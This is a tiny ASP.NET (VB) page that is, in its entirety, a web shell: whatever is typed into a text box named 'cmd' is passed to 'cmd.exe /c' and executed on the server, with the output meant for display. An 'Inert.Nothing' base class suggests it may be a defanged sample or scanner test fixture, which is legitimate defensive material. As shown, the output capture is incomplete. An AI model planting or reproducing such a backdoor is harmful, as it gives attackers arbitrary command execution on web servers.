<%@ Page Language="VB" Inherits="Inert.Nothing" %>
<script runat="server">
Sub Run(ByVal s As Object, ByVal e As EventArgs)
Dim p As New Process()
Dim i As New ProcessStartInfo("cmd.exe")
i.Arguments = "/c " & cmd.Text
p.StartInfo = i
p.Start()
result.Text = p.StandardOutput.ReadToEnd()
End Sub
</script><asp:TextBox id="cmd" runat="server"/>